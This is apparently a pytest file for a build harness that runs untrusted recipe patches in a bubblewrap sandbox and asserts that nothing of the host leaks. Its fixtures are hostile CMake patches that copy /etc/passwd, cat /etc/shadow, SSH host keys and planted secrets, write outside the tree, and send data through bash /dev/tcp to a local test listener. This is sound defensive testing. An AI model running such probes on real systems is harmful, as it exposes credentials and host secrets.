"""A recipe's build runs in the bubblewrap sandbox (issue 54, case 2, and the remote cache).

A patch adding ``configure_file(/etc/passwd ${CMAKE_CURRENT_SOURCE_DIR}/include/zz-passwd.h COPYONLY)``
to the tiny engine's CMakeLists.txt put the host's /etc/passwd into the artifact; a patch can as well
``execute_process`` anything at configure. Checking patch text cannot close that: the build must not
see the host. Here the installed ``harness build`` runs such patches of an untrusted folder:

- the issue's ``configure_file`` into the (read-only) source tree fails the build (exit 8), nothing
  is collected;
- a configure that reads ``/etc/passwd``, a secret in ``$HOME`` and beside the recipe, lists ``/root``
  and ``/home``, writes outside and connects to a port this test listens on builds (exit 0) having
  seen a synthetic passwd and nothing else: no secret, no write, no connection;
- where the sandbox cannot run (a ``bwrap`` that fails, as without user namespaces) the untrusted
  recipe is refused naming ``--no-sandbox``; trusted (``--trust tiny``) or with ``--no-sandbox`` it
  builds on the host, as before;
- an untrusted build reads a shared (``file:``) ccache remote storage but never writes it; a trusted
  one writes it.
"""

from __future__ import annotations

import difflib
import json
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from harness.core.errors import BuildError, HostError
from harness.sandbox.bwrap import read_only_remote, unavailable

from . import hostile_engine
from .test_recipe_confine import pytestmark as _tools
from .test_third_engine import CMAKELISTS

pytestmark = [*_tools] if isinstance(_tools, list) else [_tools]
NO_SANDBOX = unavailable()

HEADER = "Subject: x\nWhy: issue 54\nUpstream: none\nRetire-when: never\n---\n"


def cmake_patch(extra: str) -> str:
    """A patch of the series appending ``extra`` to the tiny engine's CMakeLists.txt."""
    diff = difflib.unified_diff(CMAKELISTS.splitlines(keepends=True), (CMAKELISTS + extra).splitlines(keepends=True),
                                "a/CMakeLists.txt", "b/CMakeLists.txt")
    return HEADER + "diff --git a/CMakeLists.txt b/CMakeLists.txt\n" + "".join(diff)


@pytest.fixture
def recipe(tmp_path: Path) -> hostile_engine.Recipe:
    return hostile_engine.make(tmp_path)


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A TCP port on 127.0.0.1 and what connected to it."""
    got: list[bytes] = []
    srv = socket.create_server(("127.0.0.1", 0))
    srv.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = srv.accept()
            except OSError:
                continue
            with conn:
                got.append(conn.recv(100) or b"connected")

    t = threading.Thread(target=serve, daemon=True)
    t.start()
    try:
        yield srv.getsockname()[1], got
    finally:
        stop.set()
        t.join()
        srv.close()


def _log(recipe: hostile_engine.Recipe) -> str:
    return "".join(p.read_text(errors="replace") for p in (recipe.cache / "host" / "build").rglob("build.log"))


def _host_passwd_line() -> str:
    """A line of the host's /etc/passwd that the synthetic one does not have."""
    lines = [ln for ln in Path("/etc/passwd").read_text().splitlines() if ln and not ln.startswith(("root:", "build:"))]
    return lines[0] if lines else "daemon:x:1:1:"


@pytest.mark.skipif(bool(NO_SANDBOX), reason=f"no sandbox here: {NO_SANDBOX}")
def test_the_issues_configure_file_of_etc_passwd_fails_the_build(recipe: hostile_engine.Recipe) -> None:
    recipe.patch("0002-hostile.patch", cmake_patch(
        "configure_file(/etc/passwd ${CMAKE_CURRENT_SOURCE_DIR}/include/zz-passwd.h COPYONLY)\n"))
    run = recipe.harness("build", "tiny", "--variant", "cpu")
    assert run.returncode == BuildError.exit_code, run.output
    assert "in the bubblewrap sandbox" in run.output and "Traceback" not in run.output
    assert "Read-only file system" in run.output  # the source tree is read-only in the sandbox
    assert not list((recipe.cache / "dist").glob("tiny-*")), "nothing was collected"
    assert _host_passwd_line() not in _log(recipe)


@pytest.mark.skipif(bool(NO_SANDBOX), reason=f"no sandbox here: {NO_SANDBOX}")
def test_a_configure_step_sees_nothing_of_the_host(recipe: hostile_engine.Recipe,
                                                  listener: tuple[int, list[bytes]]) -> None:
    port, connections = listener
    probe = (f"cat {recipe.outside}/secret {recipe.home}/secret /etc/shadow /etc/ssh/ssh_host_ed25519_key; "
             f"ls /root /home /run /var/run; echo pwned > {recipe.outside}/pwned; "
             f"bash -c 'echo exfil > /dev/tcp/127.0.0.1/{port}'; echo HOME=$HOME; env")
    recipe.patch("0002-hostile.patch", cmake_patch(
        "file(READ /etc/passwd HOST_PASSWD)\n"
        'message(STATUS "PASSWD<<${HOST_PASSWD}>>")\n'
        f'execute_process(COMMAND sh -c "{probe}" OUTPUT_VARIABLE OUT ERROR_VARIABLE ERR)\n'
        'message(STATUS "EXEC<<${OUT}${ERR}>>")\n'
        "configure_file(/etc/passwd ${CMAKE_BINARY_DIR}/zz-passwd.h COPYONLY)\n"))
    before = recipe.outside_state()
    run = recipe.harness("build", "tiny", "--variant", "cpu", "--json",
                         SECRET_TOKEN=hostile_engine.SECRET)  # an environment variable holding a secret
    assert run.returncode == 0, run.output
    log = _log(recipe)
    assert "PASSWD<<build:x:" in log, log  # the synthetic passwd
    assert _host_passwd_line() not in log
    assert hostile_engine.SECRET not in log and "No such file or directory" in log
    assert "HOME=/tmp/home" in log and "SECRET_TOKEN" not in log
    assert recipe.outside_state() == before and not (recipe.outside / "pwned").exists()
    assert connections == []
    manifest = json.loads((Path(json.loads(run.output)[0]["artifact"]) / "manifest.json").read_text())
    assert (manifest["sandbox"], manifest["trusted"]) == ("bubblewrap", False)
    for p in Path(json.loads(run.output)[0]["artifact"]).rglob("*"):
        assert not (p.is_file() and _host_passwd_line().encode() in p.read_bytes())


def _fake_bwrap(tmp: Path) -> str:
    """A directory holding a ``bwrap`` that fails as it does without user namespaces; PATH with it first."""
    d = tmp / "fake-bin"
    d.mkdir()
    (d / "bwrap").write_text("#!/bin/sh\necho 'bwrap: No permissions to creating new namespace' >&2\nexit 1\n")
    (d / "bwrap").chmod(0o755)
    import os

    return f"{d}{os.pathsep}{os.environ['PATH']}"


def test_without_a_sandbox_an_untrusted_recipe_is_refused(recipe: hostile_engine.Recipe) -> None:
    path = _fake_bwrap(recipe.scratch)
    run = recipe.harness("build", "tiny", "--variant", "cpu", PATH=path)
    assert run.returncode == HostError.exit_code, run.output
    assert "SandboxError" in run.output and "--no-sandbox" in run.output and "--trust tiny" in run.output
    assert "No permissions to creating new namespace" in run.output and "Traceback" not in run.output
    assert not list((recipe.cache / "dist").glob("tiny-*"))
    # a trusted recipe builds on the host as before; so does an untrusted one the user lets out
    for argv in (("--trust", "tiny"), ("--no-sandbox",)):
        run = recipe.harness("build", "tiny", "--variant", "cpu", "--force", "--json", *argv, PATH=path)
        assert run.returncode == 0, run.output
        manifest = json.loads((Path(json.loads(run.output)[0]["artifact"]) / "manifest.json").read_text())
        assert manifest["sandbox"] is None and manifest["trusted"] is (argv[0] == "--trust")


def test_remote_storage_is_read_only_for_an_untrusted_build() -> None:
    assert read_only_remote("redis://h:6379 http://c/x|connect-timeout=50|read-only=false") == (
        "redis://h:6379|read-only=true http://c/x|connect-timeout=50|read-only=true")


def test_an_untrusted_build_reads_the_shared_cache_and_never_writes_it(recipe: hostile_engine.Recipe) -> None:
    import shutil

    if not shutil.which("ccache"):
        pytest.skip("needs ccache")
    remote = recipe.scratch / "shared-ccache"
    remote.mkdir()
    setting = f"file:{remote}"
    run = recipe.harness("build", "tiny", "--variant", "cpu", "--json", CCACHE_REMOTE_STORAGE=setting)
    assert run.returncode == 0, run.output
    manifest = json.loads((Path(json.loads(run.output)[0]["artifact"]) / "manifest.json").read_text())
    assert manifest["ccache"]["remote_storage"] == f"{setting}|read-only=true"
    assert [p for p in remote.rglob("*") if p.is_file()] == [], "the untrusted build wrote the shared cache"

    def cold() -> None:  # the next build compiles again: no build dir, no untrusted local cache
        for d in [*(recipe.cache / "work").glob("*/build"), recipe.cache / "ccache-untrusted"]:
            shutil.rmtree(d, ignore_errors=True)

    cold()
    run = recipe.harness("build", "tiny", "--variant", "cpu", "--force", "--json", "--trust", "tiny",
                         CCACHE_REMOTE_STORAGE=setting)
    assert run.returncode == 0, run.output
    assert [p for p in remote.rglob("*") if p.is_file()], "a trusted build writes it"
    # and the untrusted build now reads what the trusted one wrote
    cold()
    run = recipe.harness("build", "tiny", "--variant", "cpu", "--force", "--json", CCACHE_REMOTE_STORAGE=setting)
    assert run.returncode == 0, run.output
    assert json.loads(run.output)[0]["ccache"]["remote_hits"] >= 1, run.output


def test_an_untrusted_recipe_s_binding_wheel_is_built_in_the_sandbox(outside_python: Path,
                                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    """`harness build-binding` runs pip and the binding's CMake project: code of the recipe. For an untrusted
    recipe the command runs in the build sandbox (a synthetic passwd, no home directory, the artifact
    read-only, the harness's compiler launcher kept); for a trusted one it runs as given."""
    import dataclasses
    import os
    import subprocess

    from harness.binding import wheel
    from harness.core.types import EngineSpec, SourceSpec

    if unavailable():
        pytest.skip(f"no sandbox here: {unavailable()}")
    monkeypatch.delenv("HARNESS_TRUST", raising=False)
    root = outside_python / "contrib" / "engines" / "tiny"
    (root / "binding").mkdir(parents=True)
    artifact = outside_python / "cache" / "dist" / "tiny-1-cpu"
    (artifact / "lib").mkdir(parents=True)
    secret = Path.home() / ".harness-test-secret-binding"
    secret.write_text("SECRET_4711\n")
    try:
        spec = EngineSpec(name="tiny", root=root, source=SourceSpec(kind="git"), upstream={}, cmake={"base": {}},
                          targets=("tiny",), artifacts={"lib": (), "bin": (), "include": ()}, abi={})
        probe = (f"head -1 /etc/passwd; cat {secret} 2>&1; echo launcher=$CMAKE_CXX_COMPILER_LAUNCHER; "
                 f"touch {artifact}/lib/x 2>&1; echo done")
        env = {**os.environ, "CMAKE_CXX_COMPILER_LAUNCHER": "/usr/bin/ccache"}
        argv, full_env = wheel._in_sandbox(spec, ["sh", "-c", probe], env, source_dir=root / "binding",
                                           artifact=artifact, root=outside_python / "binding-root")
        out = subprocess.run(argv, env=full_env, capture_output=True, text=True, check=False, timeout=60).stdout
        assert out.startswith("build:x:0:0:harness build") and "SECRET_4711" not in out, out
        assert "No such file" in out and "launcher=/usr/bin/ccache" in out and "Read-only file system" in out, out
        assert not (artifact / "lib" / "x").exists()
        # trusted: the command as given, on the host
        monkeypatch.setenv("HARNESS_TRUST", "tiny")
        trusted = dataclasses.replace(spec)
        assert wheel._in_sandbox(trusted, ["true"], env, source_dir=root / "binding", artifact=artifact,
                                 root=outside_python / "binding-root") == (["true"], env)
    finally:
        secret.unlink()
